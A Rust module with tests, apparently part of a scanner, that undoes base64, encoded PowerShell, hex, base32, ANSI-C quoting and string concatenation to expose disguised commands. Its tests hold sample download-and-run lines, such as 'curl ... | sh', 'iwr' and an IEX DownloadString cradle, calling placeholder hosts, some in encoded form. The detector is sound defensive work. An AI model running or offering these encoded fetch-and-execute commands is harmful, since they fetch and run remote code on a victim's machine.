//! Undoing the common disguises of command text: base64 (plain or the
//! UTF-16LE that `powershell -EncodedCommand` takes), bash ANSI-C quoting
//! (`$'\x63url'`), and string concatenation and backtick escapes in
//! PowerShell, JScript and VBScript (`('Down'+'loadString')`). Each returns
//! text only when the result is plausible command text, so random base64
//! (keys, hashes) is left alone.

/// Shortest base64 run worth decoding (a command needs some length).
const MIN_BASE64: usize = 16;
/// Longest base64 run decoded (a payload larger than this is not a command line).
const MAX_BASE64: usize = 1 << 20;

fn b64_value(c: u8) -> Option<u32> {
    Some(match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    } as u32)
}

/// Decode base64 (standard or URL-safe alphabet, padding optional) of at
/// least [`MIN_BASE64`] characters.
pub fn base64(s: &str) -> Option<Vec<u8>> {
    decode_base64(s, MIN_BASE64)
}

fn decode_base64(s: &str, min: usize) -> Option<Vec<u8>> {
    let s = s.trim().trim_end_matches('=');
    if s.len() < min || s.len() > MAX_BASE64 {
        return None;
    }
    let mut bits = 0u32;
    let mut n = 0;
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    for c in s.bytes() {
        let v = b64_value(c)?;
        bits = (bits << 6) | v;
        n += 6;
        if n >= 8 {
            n -= 8;
            out.push((bits >> n) as u8);
            bits &= (1 << n) - 1;
        }
    }
    Some(out)
}

fn printable(c: char) -> bool {
    c == '\n' || c == '\r' || c == '\t' || (' '..='~').contains(&c) || !c.is_control()
}

/// Text that reads like a command: almost all printable, a quarter letters
/// at least (URLs with IP addresses are mostly digits and dots).
fn plausible(t: &str) -> bool {
    let n = t.chars().count();
    n >= 4
        && t.chars().filter(|c| printable(*c)).count() * 100 >= n * 95
        && (t.contains("://") || t.chars().filter(|c| c.is_ascii_alphabetic()).count() * 4 >= n)
}

/// Bytes as UTF-16LE text, when they are (most high bytes zero).
pub fn utf16le(b: &[u8]) -> Option<String> {
    if b.len() < 8 {
        return None;
    }
    let units: Vec<u16> = b
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .collect();
    let ascii = units.iter().filter(|u| **u < 0x80).count();
    if ascii * 10 < units.len() * 9 {
        return None;
    }
    let t = String::from_utf16_lossy(&units);
    plausible(&t).then_some(t)
}

/// Base64 of UTF-16LE text (what `-EncodedCommand` takes).
pub fn encoded_powershell(s: &str) -> Option<String> {
    utf16le(&base64(s.trim_matches(['"', '\'']))?)
}

/// Base64 of UTF-8 (or UTF-16LE) text found in code, at least
/// [`MIN_BASE64`] characters.
pub fn base64_text(s: &str) -> Option<String> {
    text_of(base64(s.trim_matches(['"', '\'']))?)
}

/// Base64 text an explicit decoder is given (`echo … | base64 -d | sh`),
/// however short.
pub fn decoded_text(s: &str) -> Option<String> {
    text_of(decode_base64(s.trim_matches(['"', '\'']), 4)?)
}

/// Plain hex (`xxd -p` form, whitespace allowed) an explicit decoder is
/// given (`echo … | xxd -r -p | sh`), as text; at most [`MAX_BASE64`].
pub fn hex_text(s: &str) -> Option<String> {
    let digits: Vec<u8> = s
        .trim_matches(['"', '\''])
        .bytes()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    if digits.len() < 4 || !digits.len().is_multiple_of(2) || digits.len() > MAX_BASE64 {
        return None;
    }
    let nib = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    let bytes = digits
        .chunks(2)
        .map(|p| Some(nib(p[0])? << 4 | nib(p[1])?))
        .collect::<Option<Vec<u8>>>()?;
    text_of(bytes)
}

/// Base32 text an explicit decoder is given (`echo … | base32 -d | sh`,
/// `basenc --base32 -d`; `hex` for the base32hex alphabet), case-insensitive,
/// whitespace and padding ignored; at most [`MAX_BASE64`] characters.
pub fn base32_text(s: &str, hex: bool) -> Option<String> {
    let digits: Vec<u8> = s
        .trim_matches(['"', '\''])
        .bytes()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    let end = digits.iter().rposition(|b| *b != b'=').map_or(0, |i| i + 1);
    if !(4..=MAX_BASE64).contains(&end) {
        return None;
    }
    let value = |c: u8| -> Option<u32> {
        let c = c.to_ascii_uppercase();
        Some(match (hex, c) {
            (false, b'A'..=b'Z') => c - b'A',
            (false, b'2'..=b'7') => c - b'2' + 26,
            (true, b'0'..=b'9') => c - b'0',
            (true, b'A'..=b'V') => c - b'A' + 10,
            _ => return None,
        } as u32)
    };
    let (mut bits, mut n, mut out) = (0u64, 0, Vec::with_capacity(end * 5 / 8));
    for &c in &digits[..end] {
        bits = (bits << 5) | u64::from(value(c)?);
        n += 5;
        if n >= 8 {
            n -= 8;
            out.push((bits >> n) as u8);
            bits &= (1 << n) - 1;
        }
    }
    text_of(out)
}

fn text_of(b: Vec<u8>) -> Option<String> {
    if let Some(t) = utf16le(&b) {
        return Some(t);
    }
    let t = String::from_utf8(b).ok()?;
    plausible(&t).then_some(t)
}

/// Runs of base64 characters at least [`MIN_BASE64`] long inside `text`
/// (`[Convert]::FromBase64String('…')`).
pub fn base64_runs(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_')))
        .filter(|r| {
            r.len() >= MIN_BASE64 * 2
                && r.bytes()
                    .any(|b| b.is_ascii_digit() || b.is_ascii_uppercase())
        })
}

/// Bash ANSI-C quoting (`$'…'` body): `\xHH`, `\NNN`, `\uHHHH`, `\n`, ….
pub fn ansi_c(body: &str) -> String {
    let b = body.as_bytes();
    let mut out = String::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'\\' || i + 1 >= b.len() {
            let ch = body[i..].chars().next().unwrap_or(' ');
            out.push(ch);
            i += ch.len_utf8();
            continue;
        }
        let radix_digits = |from: usize, radix: u32, max: usize| {
            let n = b[from..]
                .iter()
                .take(max)
                .take_while(|c| (**c as char).is_digit(radix))
                .count();
            let v = u32::from_str_radix(&body[from..from + n], radix).ok();
            (v, n)
        };
        let (value, used) = match b[i + 1] {
            b'x' => radix_digits(i + 2, 16, 2),
            b'u' => radix_digits(i + 2, 16, 4),
            b'0'..=b'7' => {
                let (v, n) = radix_digits(i + 1, 8, 3);
                (v, n.saturating_sub(1))
            }
            c => {
                let v = match c {
                    b'n' => '\n',
                    b't' => '\t',
                    b'r' => '\r',
                    b'a' | b'b' | b'e' | b'E' | b'f' | b'v' => ' ',
                    other => other as char,
                };
                out.push(v);
                i += 2;
                continue;
            }
        };
        match value.and_then(char::from_u32) {
            Some(ch) => {
                out.push(ch);
                i += 2 + used;
            }
            None => {
                out.push('\\');
                i += 1;
            }
        }
    }
    out
}

/// Does `b` hold a quote, blanks, `+` or `&`, blanks, a quote (does it join two string literals)?
pub(crate) fn concatenates(b: &[u8]) -> bool {
    memchr::memchr2_iter(b'+', b'&', b).any(|at| {
        let before = b[..at].iter().rev().find(|c| **c != b' ');
        let after = b[at + 1..].iter().find(|c| **c != b' ');
        matches!(before, Some(b'\'' | b'"')) && matches!(after, Some(b'\'' | b'"'))
    })
}

/// Might [`joined_code_strings`] join something in `b` (code whose
/// concatenation operators are `ops`)? A quote, blanks, an operator, blanks
/// and a quote; with `anything_after`, whatever follows the operator (a
/// URL variable put back as a quoted URL is a literal by then).
pub(crate) fn literal_joins(b: &[u8], ops: &[u8], anything_after: bool) -> bool {
    b.iter().enumerate().any(|(at, c)| {
        if !ops.contains(c) {
            return false;
        }
        let before = b[..at].iter().rev().find(|c| **c != b' ');
        let after = b[at + 1..].iter().find(|c| **c != b' ');
        matches!(before, Some(b'\'' | b'"'))
            && (anything_after || matches!(after, Some(b'\'' | b'"')))
    })
}

/// Script text with string concatenation (`'a'+'b'`, `"a" & "b"`) joined
/// and PowerShell backtick escapes dropped.
pub fn joined_strings(text: &str) -> String {
    if !text.contains('`') && !concatenates(text.as_bytes()) {
        return text.to_string();
    }
    let b = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'`' {
            i += 1;
            continue;
        }
        if c == b'\'' || c == b'"' {
            // quote, blanks, + or &, blanks, the same quote: one string.
            let mut j = i + 1;
            while j < b.len() && b[j] == b' ' {
                j += 1;
            }
            if j < b.len() && (b[j] == b'+' || b[j] == b'&') {
                let mut k = j + 1;
                while k < b.len() && b[k] == b' ' {
                    k += 1;
                }
                if k < b.len() && b[k] == c {
                    i = k + 1;
                    continue;
                }
            }
        }
        let ch = text[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Shell-quoting wrappers whose result is their argument's text
/// (`escapeshellarg($u)`, `shlex.quote(u)`): joined through.
const QUOTING_CALLS: [&str; 6] = [
    "escapeshellarg(",
    "escapeshellcmd(",
    "shlex.quote(",
    "pipes.quote(",
    "Shellwords.escape(",
    "quotemeta(",
];

/// Code text (Python and Ruby `+`, Perl and PHP `.`: the operators in
/// `ops`) with adjacent string literals joined into one, whatever their
/// quotes (`'wget -O f ' + "http://h/x"` → `'wget -O f http://h/x'`), also
/// through a shell-quoting call (`"wget " . escapeshellarg("http://h/x")`).
/// A URL variable put back as a quoted URL then reads as one command string.
pub fn joined_code_strings<'t>(text: &'t str, ops: &[u8]) -> std::borrow::Cow<'t, str> {
    let b = text.as_bytes();
    // Most lines join nothing (no literal before an operator): no copy.
    if !literal_joins(b, ops, true) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    // Inside a literal: its opening quote, and the quote that closes it
    // here (a joined literal's own closing quote is written as the first's).
    let mut open: Option<(u8, u8)> = None;
    // Quoting calls joined through, whose `)` follows the literal's close.
    let mut calls = 0;
    while i < b.len() {
        let c = b[i];
        match open {
            Some((close, first)) if c == close && !escaped(b, i) => {
                if let Some((next, quote, call)) = joined_next(text, i + 1, ops) {
                    i = next + 1;
                    open = Some((quote, first));
                    calls += usize::from(call);
                    continue;
                }
                out.push(first as char);
                open = None;
                i += 1;
                for _ in 0..std::mem::take(&mut calls) {
                    while b.get(i) == Some(&b' ') {
                        i += 1;
                    }
                    i += usize::from(b.get(i) == Some(&b')'));
                }
                continue;
            }
            None if c == b'\'' || c == b'"' => open = Some((c, c)),
            _ => {}
        }
        let ch = text[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    std::borrow::Cow::Owned(out)
}

/// Whether the quote at `i` is escaped by an odd run of backslashes.
fn escaped(b: &[u8], i: usize) -> bool {
    b[..i].iter().rev().take_while(|&&c| c == b'\\').count() % 2 == 1
}

/// After a literal's closing quote at `from - 1`: blanks, one of `ops`,
/// blanks, maybe a quoting call's name and `(`, then an opening quote —
/// its index and quote, and whether a quoting call was passed.
fn joined_next(text: &str, from: usize, ops: &[u8]) -> Option<(usize, u8, bool)> {
    let b = text.as_bytes();
    let skip = |mut k: usize| {
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        k
    };
    let k = skip(from);
    if k >= b.len() || !ops.contains(&b[k]) {
        return None;
    }
    let mut k = skip(k + 1);
    let call = QUOTING_CALLS.iter().find(|c| text[k..].starts_with(**c));
    if let Some(call) = call {
        // Only a call whose whole argument is the literal.
        let arg = skip(k + call.len());
        let q = *b.get(arg).filter(|q| matches!(q, b'\'' | b'"'))?;
        let end = text[arg + 1..].find(q as char)? + arg + 1;
        if b.get(skip(end + 1)) != Some(&b')') {
            return None;
        }
        k = arg;
    }
    matches!(b.get(k), Some(b'\'' | b'"')).then(|| (k, b[k], call.is_some()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_strings_join_across_quotes_and_quoting_calls() {
        let j = |t, ops| joined_code_strings(t, ops).into_owned();
        assert_eq!(
            j(r#"os.system('wget -O f ' + "http://h/x")"#, b"+"),
            "os.system('wget -O f http://h/x')"
        );
        assert_eq!(
            j(
                r#"shell_exec("wget -q " . escapeshellarg('http://h/x'));"#,
                b"."
            ),
            r#"shell_exec("wget -q http://h/x");"#
        );
        // A line with no literal before an operator is not copied.
        assert!(matches!(
            joined_code_strings("a = b + c", b"+"),
            std::borrow::Cow::Borrowed(_)
        ));
        // Only a literal joins, and only over the language's operator.
        assert_eq!(j(r#"a = "x" + y + "z""#, b"+"), r#"a = "x" + y + "z""#);
        assert_eq!(j(r#"a = "x" . "z""#, b"+"), r#"a = "x" . "z""#);
        // An escaped quote does not end the literal.
        assert_eq!(j(r#"s = "a\"b" + 'c'"#, b"+"), r#"s = "a\"bc""#);
        // A quoting call over more than one literal is left alone.
        assert_eq!(
            j(r#"x = "a" . escapeshellarg("b" . $c)"#, b"."),
            r#"x = "a" . escapeshellarg("b" . $c)"#
        );
    }

    #[test]
    fn base32_both_alphabets() {
        // "curl -s http://203.0.113.5/i | sh" (RFC 4648 base32, then base32hex)
        let b32 = "MN2XE3BAFVZSA2DUORYDULZPGIYDGLRQFYYTCMZOGUXWSID4EBZWQ===";
        assert_eq!(
            base32_text(b32, false).as_deref(),
            Some("curl -s http://203.0.113.5/i | sh")
        );
        assert_eq!(
            base32_text(&b32.to_ascii_lowercase(), false).as_deref(),
            base32_text(b32, false).as_deref()
        );
        let hex = "CDQN4R105LPI0Q3KEHO3KBPF68O36BHG5OOJ2CPE6KNMI83S41PMG===";
        assert_eq!(
            base32_text(hex, true).as_deref(),
            Some("curl -s http://203.0.113.5/i | sh")
        );
        assert_eq!(base32_text("not base32!", false), None);
        assert_eq!(base32_text("AB", false), None);
    }

    #[test]
    fn base64_forms() {
        // "iwr http://h/x" in UTF-16LE, base64 (no padding too).
        let ps = "aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA==";
        assert_eq!(encoded_powershell(ps).as_deref(), Some("iwr http://h/x"));
        assert_eq!(
            encoded_powershell(ps.trim_end_matches('=')).as_deref(),
            Some("iwr http://h/x")
        );
        // "curl http://h/x | sh" in UTF-8.
        assert_eq!(
            base64_text("Y3VybCBodHRwOi8vaC94IHwgc2g=").as_deref(),
            Some("curl http://h/x | sh")
        );
        // Random bytes (a key) are not text.
        assert_eq!(base64_text("q83vEjRWeJq83vEjRWeJq83vEjRWeJ0="), None);
        assert_eq!(encoded_powershell("short"), None);
        let runs: Vec<&str> =
            base64_runs("[Convert]::FromBase64String('aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA==')")
                .collect();
        assert_eq!(runs, [ps]);
    }

    #[test]
    fn hex_forms() {
        assert_eq!(hex_text("6375726c20 682f78").as_deref(), Some("curl h/x"));
        assert_eq!(hex_text("63757"), None);
        assert_eq!(hex_text("zz00"), None);
    }

    #[test]
    fn ansi_c_quoting() {
        assert_eq!(ansi_c("\\x63url"), "curl");
        assert_eq!(ansi_c("\\143\\165rl"), "curl");
        assert_eq!(ansi_c("w\\u0067et\\n"), "wget\n");
        assert_eq!(ansi_c("a\\'b\\\\"), "a'b\\");
        assert_eq!(ansi_c("\\xZZ"), "\\xZZ");
    }

    #[test]
    fn concatenation_is_joined() {
        assert_eq!(
            joined_strings("(New-Object Net.WebClient).('Down'+'loadString')('ht'+ 'tp://h/x')"),
            "(New-Object Net.WebClient).('DownloadString')('http://h/x')"
        );
        assert_eq!(
            joined_strings("CreateObject(\"MSXML2.\" & \"XMLHTTP\")"),
            "CreateObject(\"MSXML2.XMLHTTP\")"
        );
        assert_eq!(joined_strings("I`E`X (iw`r h)"), "IEX (iwr h)");
        assert_eq!(joined_strings("a + b"), "a + b");
    }

    #[test]
    fn an_operator_ending_the_text_joins_nothing() {
        // A statement cut after its last `+` / `&` (the next piece on a
        // line not given, or a truncated file): the pieces before it are
        // joined, nothing is read past the end.
        assert_eq!(
            joined_strings("$u = 'http://h/' + 'agent' + "),
            "$u = 'http://h/agent' + "
        );
        assert_eq!(
            joined_strings("u = \"http://h/\" & \"agent\" &"),
            "u = \"http://h/agent\" &"
        );
    }

    #[test]
    fn base64_alphabets_and_plausible_text() {
        // `+` `/` (standard) and `-` `_` (URL-safe) are the same two values.
        assert!(base64("+/+/+/+/+/+/+/+/").is_some());
        assert_eq!(base64("+/+/+/+/+/+/+/+/"), base64("-_-_-_-_-_-_-_-_"));
        assert_eq!(
            decoded_text("Y3VybCBodHRwOi8vaC94IHwgc2g=").as_deref(),
            Some("curl http://h/x | sh")
        );
        // Digits and dots (a build stamp) decode but are no command text.
        assert_eq!(decoded_text("MjAyNjExMjktMDAwMS40MjoxNw=="), None);
    }

    #[test]
    fn base64_is_decoded_up_to_its_maximum_length() {
        // Exactly MAX_BASE64 characters ("ABC" over and over) decode.
        let most = "QUJD".repeat(MAX_BASE64 / 4);
        assert_eq!(base64(&most).map(|b| b.len()), Some(MAX_BASE64 / 4 * 3));
        // One group more is past the limit and left alone.
        assert_eq!(base64(&format!("{most}QUJD")), None);
    }

    #[test]
    fn hex_is_decoded_up_to_its_maximum_length() {
        // Exactly MAX_BASE64 hex digits decode; one byte more is past the
        // limit and left alone.
        let most = "41".repeat(MAX_BASE64 / 2);
        assert_eq!(hex_text(&most).map(|t| t.len()), Some(MAX_BASE64 / 2));
        assert_eq!(hex_text(&format!("{most}41")), None);
    }

    #[test]
    fn decoded_text_may_hold_letters_beyond_ascii_but_not_control_bytes() {
        // Letters outside ASCII are printable; control bytes are not.
        assert!(plausible("téléchargé été"));
        assert!(!plausible("curl -o a\u{1}\u{2}"));
    }
}
